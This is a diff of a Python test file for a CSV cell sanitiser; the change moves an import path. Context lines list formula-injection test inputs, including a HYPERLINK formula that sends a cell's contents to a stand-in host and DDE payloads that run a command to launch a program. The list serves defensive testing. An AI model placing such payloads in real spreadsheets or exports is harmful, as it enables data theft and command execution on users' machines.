@@ -6,7 +6,7 @@ import io
 
 import pytest
 
-from handrail.generators.csv_cells import safe_cell
+from handrail.generators.data.csv_cells import safe_cell
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
